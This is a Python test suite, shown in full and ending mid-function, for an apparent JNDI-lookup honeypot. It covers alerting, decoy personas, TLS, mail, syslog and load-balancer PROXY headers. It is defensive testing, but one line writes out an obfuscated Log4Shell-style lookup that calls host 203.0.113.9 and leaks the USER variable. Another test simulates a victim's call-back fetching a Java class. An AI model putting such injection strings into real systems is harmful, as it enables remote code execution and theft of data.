#!/usr/bin/python3
"""The honeypot: what it answers, what it tells, what it bears, and that it can do nothing else.

usage: test_honeypot.py PROGRAM
"""
import json
import os
import re
import shutil
import signal
import smtplib
import socket
import ssl
import struct
import subprocess
import sys

from harness_honeypot import (  # first: it sets where the others are
    ALARM, EVERYWHERE, SCANNER, TOUCHED, Honeypot, alerts, ask, connect, encrypted, from_capture,
    get, has_ended, has_tls, lookups, make_certificate, needs_tls, read_all, touch)
import flows
import frames
from harness import (Skip, arguments, demand, expect, expect_refused, figure, main, of_type,
                     unprivileged, wait_for)

INSIDE, OUTSIDE = "127.0.0.2", "127.0.0.3"
HOME = ("--set", f"vars.HOME_NET={INSIDE}/32")
ANEW = r"^the honeypot's listening process ended, and was started anew"


def honeypot_of(event):
    return event["alert"]["context"]["honeypot"]


# --- touches

def every_touch_is_told(lab):
    """A connection that says nothing too, and who it was decides how severe it is."""
    pot = Honeypot(lab, *HOME)
    touch(pot.first, INSIDE)
    touch(pot.first, OUTSIDE)
    demand(b" 200 OK\r\n" in get(pot.first, source=OUTSIDE), "no answer")
    wait_for(lambda: lab.text("out.json").count(b'"event_type":"alert"') >= 4, "the alerts")
    events = pot.stop()
    told = [(event["src_ip"], event["alert"]["severity"]) for event in alerts(events, TOUCHED)]
    demand(sorted(told) == [(INSIDE, 1), (OUTSIDE, 3), (OUTSIDE, 3)], f"touches: {told}")
    alarms = [event["src_ip"] for event in alerts(events, ALARM)]
    demand(alarms == [INSIDE], f"alarms: {alarms}")
    demand(len(of_type(events, "flow")) == 3, "a touch without a flow event")
    for event in alerts(events):
        told = honeypot_of(event)
        demand(told["listener"] == pot.first.name == event["in_iface"], f"listener: {told}")
        demand(told["persona"] == "tomcat", f"persona: {told}")
    sessions = {honeypot_of(event)["session"] for event in alerts(events, TOUCHED)}
    demand(len(sessions) == 3, f"three connections are {len(sessions)} sessions")


def inside_is_what_is_not_public(lab):
    """Where HOME_NET says nothing."""
    pot = Honeypot(lab)
    touch(pot.first)
    events = pot.stop()
    demand([event["alert"]["severity"] for event in alerts(events, TOUCHED)] == [1], "not severe")


def the_alarm_is_told_once(lab):
    pot = Honeypot(lab, *HOME)
    for _ in range(5):
        get(pot.first, source=INSIDE)
    events = pot.stop()
    demand(len(alerts(events, TOUCHED)) == 5, "touches are missing")
    demand(len(alerts(events, ALARM)) == 1, f"{len(alerts(events, ALARM))} alarms")


def scanners_are_told_apart(lab):
    """Logged, not silenced; and what they try is found as ever."""
    pot = Honeypot(lab, *HOME, "--set", "honeypot.scanners=127.0.0.2/32,192.0.2.0/24")
    get(pot.first, headers=[b"X: " + flows.lookup("scan")], source=INSIDE)
    get(pot.first, source=OUTSIDE)
    events = pot.stop()
    told = [(event["src_ip"], event["alert"]["severity"]) for event in alerts(events, SCANNER)]
    demand(told == [(INSIDE, 4)], f"scanners: {told}")
    demand([event["src_ip"] for event in alerts(events, TOUCHED)] == [OUTSIDE], "other touches")
    demand(not alerts(events, ALARM) and len(lookups(events)) == 1, "an alarm, or no look-up")


def dark_networks_are_touched(lab):
    """In a capture, by a SYN that nobody answers, and by what is answered."""
    syn = flows.Talk(client=("198.51.100.7", 40000), server=("10.0.9.1", 445))
    syn.send(0, frames.SYN)
    whole = flows.exchange(("10.0.1.2", 40001), server=("10.0.9.77", 80), url="/dark",
                           agent=flows.lookup("dark"))
    other = flows.exchange(("10.0.1.2", 40002), server=("10.0.8.1", 80))
    lab.write("a.pcap", flows.pcap(syn.frames + whole.frames + other.frames))
    expect(lab.run("-r", "a.pcap", "-o", "out.json", "--set", "cache=none", "--set",
                   "honeypot.passive=10.0.9.0/24"), 0)
    events = lab.events()
    told = [(event["dest_ip"], event["alert"]["severity"], honeypot_of(event)["listener"])
            for event in alerts(events, TOUCHED)]
    wanted = [("10.0.9.1", 3, "passive:10.0.9.0/24"), ("10.0.9.77", 1, "passive:10.0.9.0/24")]
    demand(sorted(told) == wanted, f"touches: {told}")
    demand(all("persona" not in honeypot_of(event) for event in alerts(events, TOUCHED)), "poses")
    hits = [event for event in alerts(events) if "jndi" in event["alert"]["context"]]
    demand(honeypot_of(hits[0])["listener"] == "passive:10.0.9.0/24", "not of the decoy")


def the_call_back_is_ours(lab):
    """A call-back that is led to a decoy is told of both; what the decoy answers is no step."""
    victim, far = "192.0.2.10", ("203.0.113.9", 1389)
    code = b"\xca\xfe\xba\xbe" + bytes(40)
    called = flows.Talk((victim, 41000), far, flows.START_US + 1000000).open().close()
    fetched = (flows.Talk((victim, 41001), (far[0], 80), flows.START_US + 2000000).open()
               .client(flows.request("/X.class")).server(flows.response(code)).close())
    lab.write("a.pcap", flows.pcap(flows.good(1) + called.frames + fetched.frames))
    for args, stages in (([], ["called_back", "class_delivered"]),
                         (["--set", "honeypot.passive=203.0.113.0/24"], ["called_back"])):
        expect(lab.run("-r", "a.pcap", "-o", "out.json", "--set", "cache=none", *args), 0)
        steps = [event for event in alerts(lab.events())
                 if event["alert"]["context"].get("jndi", {}).get("stage", "attempt") != "attempt"]
        demand([s["alert"]["context"]["jndi"]["stage"] for s in steps] == stages, f"{steps}")
        demand(all(("honeypot" in s["alert"]["context"]) == bool(args) for s in steps), "the decoy")
        os.remove(lab.path("out.json"))


def wrong_networks(lab):
    lab.write("g", flows.pcap(flows.good()))
    expect_refused(lab.run("-r", "g", "-o", "-", "--set", "honeypot.passive=10.0.0.0/33,x"),
                   r"^honeypot.passive: '10.0.0.0/33' is not a network",
                   r"^honeypot.passive: 'x' is not a network")
    expect_refused(lab.run("honeypot", "-o", "-", "--listen", "http:*:0", "--set",
                           "honeypot.scanners=here", "--set", "honeypot.proxy=there"),
                   r"^honeypot.scanners: 'here' is not a network",
                   r"^honeypot.proxy: 'there' is not a network")


def http_is_told_as_from_a_capture(lab):
    """Requests and answers are http events with their status, and look-ups the usual alerts."""
    pot = Honeypot(lab)
    attack = [b"X-Api-Version: " + flows.lookup("header")]
    demand(b" 401 " in get(pot.first, b"/manager/html", attack), "no 401")
    events = pot.stop()
    http = [event["http"] for event in of_type(events, "http")]
    demand([(one["url"], one["status"]) for one in http] == [("/manager/html", 401)], f"{http}")
    found = lookups(events)
    demand([one["field"] for one in found] == ["http.request_header.x-api-version"], f"{found}")
    flow = of_type(events, "flow")[0]
    demand(flow["flow"]["bytes_toclient"] > 200 and flow["app_proto"] == "http", f"flow: {flow}")
    hits = [event for event in alerts(events) if "jndi" in event["alert"]["context"]]
    demand(honeypot_of(hits[0])["session"] == honeypot_of(alerts(events, TOUCHED)[0])["session"],
           "another session")


def forms():
    """Requests with look-ups in many places and wrappings."""
    name = [flows.lookup(f"n{number}") for number in range(9)]
    nested = flows.OPENER.encode() + b"${lower:j}ndi:dns://203.0.113.9/${env:USER}}"
    percent = "".join(f"%{byte:02x}" for byte in name[1]).encode()
    return [
        flows.request(headers=[(b"User-Agent", name[0])]),
        flows.request(url="/?q=" + percent.decode()),
        flows.request(headers=[(b"Cookie", b"sid=" + name[2])]),
        flows.request(method="POST", body=b'{"user":{"name":"' + name[3] + b'"}}',
                      headers=[(b"Content-Type", b"application/json")]),
        flows.request(method="POST", body=b"a=1&b=" + percent,
                      headers=[(b"Content-Type", b"application/x-www-form-urlencoded")]),
        flows.request(headers=[(b"Referer", nested)]),
        b"GET /" + name[4] + b" HTTP/1.1\r\n\r\n",
        name[5] + b"\r\n",
        flows.request(headers=[(b"X-A", name[6]), (b"X-B", name[7])]),
    ]


def finds_what_a_capture_shows(lab):
    """The same bytes give the same look-ups, whichever way they come."""
    pot = Honeypot(lab)
    for request in forms():
        ask(pot.first, request)
    here = sorted(map(str, lookups(pot.stop())))
    there = sorted(map(str, lookups(from_capture(lab, forms()))))
    demand(len(here) >= len(forms()), f"{len(here)} look-ups of {len(forms())}")
    demand(here == there, f"differ: {set(here) ^ set(there)}")


def public_forms():
    """What was published of the attack, as far as a header holds it."""
    folder = os.environ.get("JNDIWATCH_SHARED")
    path = os.path.join(folder or "", "data", "payloads-public.jsonl")
    if not folder or not os.path.exists(path):
        raise Skip("JNDIWATCH_SHARED does not name a folder with data/payloads-public.jsonl")
    with open(path, encoding="utf-8") as file:
        texts = [json.loads(line)["payload"].encode() for line in file]
    return [text for text in texts if not {0, 10, 13} & set(text)]


def finds_what_was_published(lab):
    """Every public form, through a listener and from a capture."""
    requests = [flows.request(headers=[(b"X-Api-Version", text)]) for text in public_forms()]
    pot = Honeypot(lab)
    for request in requests:
        ask(pot.first, request)
    here = sorted(map(str, lookups(pot.stop())))
    there = sorted(map(str, lookups(from_capture(lab, requests))))
    demand(len(here) > len(requests) / 2, f"{len(here)} look-ups in {len(requests)} forms")
    differ = sorted(set(here) ^ set(there))
    demand(here == there, f"{len(differ)} differ: {differ[:1]}")


def raw_bytes_are_scanned(lab):
    pot = Honeypot(lab, spots=("tcp:127.0.0.1:0",))
    ask(pot.first, b"\x10\x00player says " + flows.lookup("chat"))
    events = pot.stop()
    demand([one["field"] for one in lookups(events)] == ["tcp.payload"], f"{lookups(events)}")
    demand(honeypot_of(alerts(events)[0])["persona"] == "silent", "another persona")


def mail_is_taken(lab):
    """A mail is told with its envelope, subject and look-ups, in body and commands."""
    pot = Honeypot(lab, spots=("smtp:127.0.0.1:0",))
    with smtplib.SMTP(*pot.first.place, local_hostname="client.example", timeout=30) as client:
        refused = client.sendmail("a@example.org", ["b@example.net", "c@example.net"],
                                  b"Subject: " + flows.lookup("subject") + b"\r\n\r\n"
                                  + flows.lookup("body") + b"\r\n.\r\n")
        demand(not refused, f"refused {refused}")
        demand(not client.has_extn("starttls"), "offers what it cannot do")
    events = pot.stop()
    smtp = [event["smtp"] for event in of_type(events, "smtp")]
    demand([one["helo"] for one in smtp] == ["client.example"], f"{smtp}")
    demand(smtp[0]["rcpt_to"] == ["<b@example.net>", "<c@example.net>"], f"{smtp}")
    fields = sorted(one["field"] for one in lookups(events))
    demand(fields == ["email.body", "email.subject"], f"{fields}")
    demand(honeypot_of(alerts(events, TOUCHED)[0])["persona"] == "postfix", "another persona")


def swaks_is_answered(lab):
    if shutil.which("swaks") is None:
        raise Skip("swaks is not installed")
    pot = Honeypot(lab, spots=("smtp:127.0.0.1:0",))
    done = subprocess.run(["swaks", "--server", pot.first.host, "--port", str(pot.first.port),
                           "--from", "a@example.org", "--to", "b@example.net", "--header",
                           "Subject: " + flows.lookup("swaks").decode()],
                          capture_output=True, check=False, text=True)
    demand(done.returncode == 0, done.stdout[-300:] + done.stderr)
    demand([one["field"] for one in lookups(pot.stop())] == ["email.subject"], "not found")


def syslog_is_taken(lab):
    """Messages in both formats of syslog, and one that is none; each sender is a touch."""
    if shutil.which("logger") is None:
        raise Skip("logger is not installed")
    pot = Honeypot(lab, spots=("syslog:127.0.0.1:0", "syslog:[::1]:0", "http:127.0.0.1:0"))
    for number, words in enumerate((["--rfc3164"], ["--rfc5424"], ["--rfc5424", "--octet-count"])):
        subprocess.run(["logger", "-d", "-n", pot.first.host, "-P", str(pot.first.port), *words,
                        "login of " + flows.lookup(f"s{number}").decode()], check=True)
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"", pot.spots[1].place)
        sender.sendto(b"x" * 60000 + flows.lookup("six"), pot.spots[1].place)
    wait_for(lambda: lab.text("out.json").count(b'"udp.payload"') >= 4, "the look-ups")
    get(pot.spots[2])
    events = pot.stop()
    demand([one["field"] for one in lookups(events)] == ["udp.payload"] * 4, f"{lookups(events)}")
    touched = [honeypot_of(event)["listener"] for event in alerts(events, TOUCHED)]
    wanted = [pot.first.name] * 3 + [pot.spots[1].name, pot.spots[2].name]
    demand(sorted(touched) == sorted(wanted), f"touched: {touched}")
    demand(figure(events, "decoy_datagrams") == 5, "not counted")
    demand(figure(events, "decoy_datagrams_lost") == 0, "something was lost")


def datagrams_to_every_address(lab):
    """Are told with the one that was meant."""
    pot = Honeypot(lab, spots=("syslog:*:0",))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(flows.lookup("a"), ("127.0.0.77", pot.first.port))
    wait_for(lambda: lab.text("out.json").count(b'"udp.payload"') >= 1, "the look-up")
    told = {event["dest_ip"] for event in alerts(pot.stop(warnings=[EVERYWHERE]))}
    demand(told == {"127.0.0.77"}, f"sent to {told}")


def both_families(lab):
    """At * both, and their addresses are told as what they are."""
    if not os.path.exists("/proc/net/if_inet6"):
        raise Skip("the kernel has no IPv6")
    pot = Honeypot(lab, spots=("http:*:0", "http:[::1]:0"))
    get(pot.first)
    pot.first.host = "::1"
    get(pot.first)
    get(pot.spots[1])
    events = pot.stop(warnings=[EVERYWHERE])
    seen = [(event["src_ip"], event["dest_ip"]) for event in of_type(events, "http")]
    demand(sorted(seen) == [("127.0.0.1",) * 2, ("::1",) * 2, ("::1",) * 2], f"{seen}")


def poses_as_it_is_told(lab):
    """A persona of a file, one in place of a shipped one, and the shipped ones of others."""
    lab.write("p/house.persona", "server House/1\npage /a* 503 text/plain\nheader Retry-After: 9\n"
              "| later\n")
    lab.write("p/postfix.persona", "host mx.house\ngreeting 220 mx.house ready\n")
    pot = Honeypot(lab, "--set", "honeypot.personas=p/house.persona,p/postfix.persona",
                   spots=("http:127.0.0.1:0:house", "smtp:127.0.0.1:0", "http:127.0.0.1:0:solr"))
    answer = get(pot.first, b"/abc")
    demand(answer.startswith(b"HTTP/1.1 503 Service Unavailable\r\n"), f"{answer}")
    for part in (b"\r\nServer: House/1\r\n", b"\r\nRetry-After: 9\r\n", b"\r\n\r\nlater\n"):
        demand(part in answer, f"no {part} in {answer}")
    demand(get(pot.first, b"/b").startswith(b"HTTP/1.1 404 Not Found\r\n"), "no 404")
    demand(ask(pot.spots[1], b"QUIT\r\n").startswith(b"220 mx.house ready\r\n"), "the shipped one")
    demand(b"\r\nLocation: /solr/\r\n" in get(pot.spots[2]), "no redirection")
    told = {honeypot_of(event)["persona"] for event in alerts(pot.stop(), TOUCHED)}
    demand(told == {"house", "postfix", "solr"}, f"told as {told}")


def wrong_personas(lab):
    """One clear line each, with file and line, and nothing is started."""
    lab.write("a.persona", "server x\npage /a\n")
    lab.write("b.persona", "page * 200\n" + "| " + "x" * 5000 + "\n")
    lab.write("c.txt", "")
    lab.write("d.persona", b"#" * 300000)
    files = "a.persona,b.persona,c.txt,d.persona,nosuch.persona"
    expect_refused(lab.run("honeypot", "--set", f"honeypot.personas={files}", "-o", "-"),
                   r"^a.persona:2: 'page' has no status", r"^b.persona:2: the line is longer",
                   r"^persona 'c.txt': its file is to be called NAME.persona",
                   r"^persona 'd.persona' is longer than 256 KiB",
                   r"^cannot read persona 'nosuch.persona': No such file")
    expect_refused(lab.run("honeypot", "--listen", "smtp:*:0:tomcat", "--listen", "http:*:0:silent",
                           "-o", "-"),
                   r"^listener 'smtp:\*:0': persona 'tomcat' is no mail server",
                   r"^listener 'http:\*:0': persona 'silent' has no pages")


def tls_is_seen_as_text(lab):
    """At one port with what comes as text, in one connection many times, and at a raw listener."""
    needs_tls(lab)
    pot = Honeypot(lab, spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
    large = flows.request(url="/large", method="POST", body=b"x" * 200000)
    with encrypted(connect(pot.first)) as connection:
        for number in range(3):
            connection.sendall(flows.request(url=f"/{number}",
                                             headers=[(b"X-A", flows.lookup(f"t{number}"))]))
            demand(connection.recv(65536).startswith(b"HTTP/1.1 200"), "no answer")
        connection.sendall(large.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1))
        demand(read_all(connection).startswith(b"HTTP/1.1 200"), "no answer to much")
    with encrypted(connect(pot.spots[1])) as connection:
        connection.sendall(flows.lookup("raw"))
        connection.unwrap()
    demand(b" 200 OK" in get(pot.first, b"/plain"), "no answer to text")
    events = pot.stop()
    seen = [event["http"]["url"] for event in of_type(events, "http")]
    demand(seen == ["/0", "/1", "/2", "/large", "/plain"], f"{seen}")
    fields = [one["field"] for one in lookups(events)]
    demand(fields == ["http.request_header.x-a"] * 3 + ["tcp.payload"], f"{fields}")
    marks = [event.get("tls", {}).get("version") for event in of_type(events, "http")]
    demand(marks == 4 * ["TLS 1.3"] + [None], f"{marks}")
    found = [event for event in alerts(events) if "jndi" in event["alert"]["context"]]
    demand([event["tls"] for event in found] == 4 * [{"version": "TLS 1.3"}], "alerts")
    demand(figure(events, "lost_tls") == 0, "something stayed encrypted")


def hello_is_read(lab):
    """What a visitor asks for before anything is encrypted, and what is said then; also of one
    who is too odd to be spoken to."""
    if shutil.which("openssl") is None:
        raise Skip("openssl is not installed")
    needs_tls(lab)
    pot = Honeypot(lab, spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
    odd = ("-tls1_2", "-cipher", "PSK-AES128-CBC-SHA", "-psk", "00")
    for number, (spot, more) in enumerate(zip(pot.spots + pot.spots[:1], ((), (), odd))):
        subprocess.run(
            ["openssl", "s_client", "-connect", f"{spot.host}:{spot.port}", "-quiet", "-alpn",
             flows.lookup(f"a{number}").decode(), "-servername",
             flows.lookup(f"n{number}").decode(), *more],
            capture_output=True, check=False, timeout=60,
            input=b"GET / HTTP/1.0\r\nX: " + flows.lookup(f"x{number}") + b"\r\n\r\n")
    events = pot.stop()
    fields = sorted((one["field"], one["callback"]["path"][-2:]) for one in lookups(events))
    demand(fields == [("http.request_header.x", "x0"), ("http.request_header.x", "x1")]
           + [("tls.alpn", f"a{n}") for n in range(3)] + [("tls.sni", f"n{n}") for n in range(3)],
           f"{fields}")
    told = [event["tls"]["sni"][-3:-1] for event in of_type(events, "tls")]
    demand(told == ["n0", "n1", "n2"], f"{told}")
    names = sorted(event["app_proto"] for event in of_type(events, "flow"))
    demand(names == ["http", "http", "tls"], f"{names}")


def hello_in_pieces_is_read(lab):
    """However it was cut."""
    needs_tls(lab)
    pot = Honeypot(lab, spots=("http:127.0.0.1:0",))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    visitor = context.wrap_bio(into, out, server_hostname="pieces.example")
    try:
        visitor.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    with connect(pot.first) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(len(hello)):
            connection.send(hello[at:at + 1])
        demand(connection.recv(1) == b"\x16", "no hello came back")
    told = [event["tls"].get("sni") for event in of_type(pot.stop(), "tls")]
    demand(told == ["pieces.example"], f"{told}")


def tls_that_fails_is_told(lab):
    """A handshake that is none, a broken record, and TLS where none is spoken."""
    needs_tls(lab)
    pot = Honeypot(lab)
    ask(pot.first, b"\x16\x03\x01\x00\x05nothi")
    ask(pot.first, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
    with encrypted(connect(pot.first)) as connection:
        raw = socket.socket(fileno=os.dup(connection.fileno()))
        raw.sendall(b"\x17\x03\x03\x00\x20" + b"x" * 32)
        raw.close()
        try:
            demand(connection.recv(10) == b"", "was answered")
        except OSError:
            pass
    demand(b" 200 OK" in get(pot.first), "no answer")
    events = pot.stop()
    demand(len(alerts(events, TOUCHED)) == 4, "not all were told")


def tls_that_is_not_spoken(lab):
    """Is told as what it is."""
    pot = Honeypot(lab, "--set", "honeypot.tls=no", "--set", "honeypot.timeout.header=200ms")
    try:
        encrypted(connect(pot.first)).close()
        demand(False, "TLS was spoken")
    except OSError:
        pass
    events = pot.stop()
    demand([event["app_proto"] for event in of_type(events, "flow")] == ["tls"], "not as TLS")
    demand(figure(events, "lost_tls") > 100, "not counted")


def openssl_is_answered(lab):
    """An old client and a new one."""
    if shutil.which("openssl") is None:
        raise Skip("openssl is not installed")
    needs_tls(lab)
    pot = Honeypot(lab)
    for version in ("-tls1", "-tls1_2", "-tls1_3"):
        done = subprocess.run(
            ["openssl", "s_client", "-connect", f"{pot.first.host}:{pot.first.port}", version,
             "-cipher", "ALL:@SECLEVEL=0", "-quiet", "-ign_eof"], capture_output=True, check=False,
            input=b"GET /" + version.encode() + b" HTTP/1.0\r\nX: " + flows.lookup("s")
            + b"\r\n\r\n", timeout=60)
        demand(b"HTTP/1.1 200 OK" in done.stdout, f"{version}: {done.stderr[-300:]}")
    events = pot.stop()
    demand(len(lookups(events)) == 3 and len(of_type(events, "http")) == 3, "not seen")


def certificate_is_the_given_one(lab):
    """And its key, which only root may read, is asked for but at the start."""
    needs_tls(lab)
    paths = make_certificate(lab, "decoy.example")
    os.chmod(paths[1], 0o400)
    os.chmod(lab.folder, 0o777)
    user = ("--user", "nobody") if os.geteuid() == 0 else ()
    pot = Honeypot(lab, "--set", f"honeypot.certificate={paths[0]}", "--set",
                   f"honeypot.key={paths[1]}", *user)
    os.unlink(paths[1])
    os.kill(pot.decoy, signal.SIGKILL)
    pot.run.wait_for(lambda: b"started anew" in pot.run.err(), "another process")
    with encrypted(connect(pot.first)) as connection:
        shown = ssl.DER_cert_to_PEM_cert(connection.getpeercert(True))
    demand(shown.encode() == lab.text("decoy.example.crt"), "another certificate")
    pot.stop(warnings=[ANEW])


def wrong_certificates(lab):
    needs_tls(lab)
    paths, others = make_certificate(lab, "a"), make_certificate(lab, "b")
    lab.write("none.pem", "no certificate\n")
    where = re.escape(lab.folder)
    rows = [
        (("nosuch.crt", paths[1]), r"^cannot use certificate 'nosuch.crt': No such file"),
        ((paths[0], "nosuch.key"), r"^cannot use key 'nosuch.key': No such file"),
        (("none.pem", paths[1]),
         r"^cannot use certificate 'none.pem': no start line\. It is to be a PEM "),
        ((paths[0], "none.pem"), r"^cannot use key 'none.pem': "),
        ((paths[0], others[1]), rf"^key '{where}/b.key' is not that of certificate '{where}/a"),
        ((paths[0], ""), r"^honeypot.certificate and honeypot.key go together"),
    ]
    for (certificate, key), wanted in rows:
        ended = lab.run("honeypot", "--listen", "http:127.0.0.1:0", "-o", "-", "--set",
                        f"honeypot.certificate={certificate}", "--set", f"honeypot.key={key}")
        expect_refused(ended, wanted)
    before = unprivileged(lab)
    if before:
        os.chmod(paths[1], 0o400)
        ended = lab.run("honeypot", "--listen", "http:127.0.0.1:0", "-o", "-", "--set",
                        f"honeypot.certificate={paths[0]}", "--set", f"honeypot.key={paths[1]}",
                        before=before)
        expect_refused(ended,
                       rf"^cannot use key '{where}/a.key': Permission denied\. It is read as ")


def curl_is_answered(lab):
    """Keep-alive, Expect, a chunked upload and HEAD, by a client that knows HTTP."""
    if shutil.which("curl") is None:
        raise Skip("curl is not installed")
    pot = Honeypot(lab)
    body = lab.write("body", b"x" * 100000)
    words = ["curl", "-sS", "--max-time", "30", "-o", "/dev/null", "-w", "%{http_code}\n"]
    url = pot.first.url
    done = subprocess.run(
        [*words, f"{url}/a", "--next", *words[1:], "-I", f"{url}/b", "--next", *words[1:],
         "-T", body, "-H", "Transfer-Encoding: chunked", f"{url}/c", "--next", *words[1:],
         "-H", "Expect: 100-continue", "--data-binary", f"@{body}", f"{url}/manager"],
        capture_output=True, check=False, text=True)
    demand(done.stdout.split() == ["200", "200", "200", "401"], f"{done.stdout} {done.stderr}")
    events = pot.stop()
    urls = [event["http"]["url"] for event in of_type(events, "http")]
    demand(urls == ["/a", "/b", "/c", "/manager"], f"{urls}")


# --- sockets of a service manager

def giving(*sockets):
    """In front of the program: a service manager that has opened these."""
    giver = os.path.join(os.path.dirname(os.path.abspath(__file__)), "give_sockets.py")
    return [sys.executable, "-B", giver, *sockets, "--"]


def given_sockets_are_taken(lab):
    """Each is that of the listener at its place; a listener without one opens its own."""
    pot = Honeypot(lab, "--set", "honeypot.timeout.header=10s",
                   spots=("http:127.0.0.1:@1", "tcp:127.0.0.1:0", "syslog:*:@2", "http:*:@0:solr"),
                   before=giving("tcp:0.0.0.0", "tcp:127.0.0.1", "udp:0.0.0.0"))
    demand(b" 200 OK" in get(pot.first), "no answer at the given one")
    ask(pot.spots[1], b"by itself")
    demand(b"\r\nLocation: /solr/\r\n" in get(pot.spots[3]), "no redirection")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(flows.lookup("a"), ("127.0.0.77", pot.spots[2].port))
    os.kill(pot.decoy, signal.SIGKILL)
    pot.run.wait_for(lambda: b"started anew" in pot.run.err(), "another process")
    demand(b" 200 OK" in get(pot.first), "no answer by another process")
    wait_for(lambda: lab.text("out.json").count(b'"udp.payload"') >= 1, "the datagram")
    events = pot.stop(warnings=[ANEW, EVERYWHERE])
    told = {(event["in_iface"].split(":")[0], event["dest_ip"])
            for event in alerts(events, TOUCHED)}
    demand(told == {("http", "127.0.0.1"), ("tcp", "127.0.0.1"), ("syslog", "127.0.0.77")},
           f"{told}")


def given_sockets_of_no_listener(lab):
    """A port that would be open without anybody who answers."""
    ended = lab.run("honeypot", "--listen", "http:127.0.0.1:@0", "--listen", "tcp:127.0.0.2:@1",
                    "-o", "-", "--set", "cache=none",
                    before=giving("tcp:127.0.0.1", "tcp:127.0.0.1", "udp:127.0.0.1"))
    why = r"^descriptor {} from the service manager belongs to no listener: it is 127.0.0.1, {} "
    expect(ended, 4, why.format(4, "TCP port"), why.format(5, "UDP port"))


def sockets_given_to_another(lab):
    """Are left alone: then the port is in use."""
    ended = lab.run("honeypot", "--listen", "http:127.0.0.1:@0", "-o", "-", "--set", "cache=none",
                    before=giving("tcp:127.0.0.1"), env={**os.environ, "WHOSE": "other"})
    expect(ended, 4, r"^cannot listen at 'http:127.0.0.1:\d+': Address already in use")


# --- behind a balancer

CLIENT, OTHER = "198.51.100.23", "2001:db8::23"
BALANCER = ("--set", f"honeypot.proxy={OUTSIDE}/32")


def proxy_line(client=CLIENT, server="198.51.100.1", family="TCP4"):
    return f"PROXY {family} {client} {server} 40123 443\r\n".encode()


def proxy_binary(client=OTHER, more=b""):
    """Version 2, with whatever is behind the addresses."""
    ends = socket.inet_pton(socket.AF_INET6, client) + socket.inet_pton(socket.AF_INET6, "::1")
    rest = ends + struct.pack("!HH", 40123, 443) + more
    return b"\r\n\r\n\0\r\nQUIT\n\x21\x21" + struct.pack("!H", len(rest)) + rest


def the_client_behind_a_balancer(lab):
    """Is who touched, in both versions, in pieces, in TLS, and where the server greets first."""
    pot = Honeypot(lab, *BALANCER, "--set", f"vars.HOME_NET={CLIENT}/32",
                   spots=("http:127.0.0.1:0", "smtp:127.0.0.1:0"))
    request = flows.request(headers=[(b"X-A", flows.lookup("behind"))])
    demand(b" 200 OK" in ask(pot.first, proxy_line() + request, OUTSIDE), "no answer")
    for more in (b"", b"\x02" + struct.pack("!H", 9000) + b"x" * 9000):
        answer = ask(pot.first, proxy_binary(more=more) + request, OUTSIDE)
        demand(answer.startswith(b"HTTP/1.1 200 OK"), f"{len(more)} more: {answer}")
    with connect(pot.spots[1], OUTSIDE) as connection:
        for byte in proxy_line() + b"QUIT\r\n":
            connection.sendall(bytes([byte]))
        demand(read_all(connection).startswith(b"220 "), "no greeting")
    n_plain = 4
    if has_tls(lab):
        with connect(pot.first, OUTSIDE) as connection:
            connection.sendall(proxy_line())
            with encrypted(connection) as inner:
                inner.sendall(request)
                demand(b" 200 OK" in inner.recv(65536), "no answer in TLS")
        n_plain += 1
    events = pot.stop()
    told = sorted((event["src_ip"], event["src_port"], event["alert"]["severity"])
                  for event in alerts(events, TOUCHED))
    other = "2001:0db8:0000:0000:0000:0000:0000:0023"
    demand({one[0] for one in told} <= {CLIENT, OTHER, other}, f"{told}")
    demand([one[1:] for one in told if one[0] == CLIENT] == [(40123, 1)] * (n_plain - 2), f"{told}")
    demand([one[1:] for one in told if one[0] != CLIENT] == [(40123, 3)] * 2, f"{told}")
    demand([event["src_ip"] for event in alerts(events, ALARM)] == [CLIENT], "another alarm")
    demand(len(lookups(events)) == n_plain - 1, f"look-ups: {lookups(events)}")


def clients_of_ipv4_in_ipv6(lab):
    """Are of IPv4 for a balancer that writes both families as one, whatever they connected to."""
    pot = Honeypot(lab, *BALANCER, "--set", f"vars.HOME_NET={CLIENT}/32",
                   spots=("http:127.0.0.1:0",))
    mapped = f"::ffff:{CLIENT}"
    for server in ("::ffff:198.51.100.1", "2001:db8::1"):
        demand(b" 200 OK" in ask(pot.first, proxy_line(mapped, server, "TCP6") + flows.request(),
                                 OUTSIDE), f"no answer behind {server}")
    binary = proxy_binary(mapped) + flows.request()
    demand(b" 200 OK" in ask(pot.first, binary, OUTSIDE), "no answer to version 2")
    told = [(event["src_ip"], event["dest_ip"], event["alert"]["severity"])
            for event in alerts(pot.stop(), TOUCHED)]
    own = pot.first.host
    demand(told == [(CLIENT, "198.51.100.1", 1), (CLIENT, own, 1), (CLIENT, own, 1)], f"{told}")


def limits_behind_a_balancer(lab):
    """Are those of the client, not of the balancer."""
    pot = Honeypot(lab, *BALANCER, "--set", "honeypot.connections_per_source=2")
    held = [connect(pot.first, OUTSIDE) for _ in range(5)]
    for number, one in enumerate(held):
        one.sendall(proxy_line(f"198.51.100.{number // 2}") + b"GET / HTTP/1.1\r\n\r\n")
        demand(one.recv(65536).startswith(b"HTTP/1.1 200"), "one that is allowed")
    refused = connect(pot.first, OUTSIDE)
    refused.sendall(proxy_line("198.51.100.0") + b"GET / HTTP/1.1\r\n\r\n")
    demand(read_all(refused) == b"", "a third of one client")
    for one in held:
        one.close()
    events = pot.stop()
    demand(figure(events, "decoy_refused_source") == 1, "not counted")
    demand(len(alerts(events, TOUCHED)) == 5, "not five touches")


def balancers_that_name_nobody(lab):
    """Their own checks, broken headers and none at all are the balancer's, and told."""
    pot = Honeypot(lab, *BALANCER, "--set", "honeypot.timeout.header=200ms")
    touch(pot.first, OUTSIDE)
    for first in (b"", b"PROXY UNKNOWN\r\n", b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0"):
        answer = ask(pot.first, first + flows.request(), OUTSIDE)
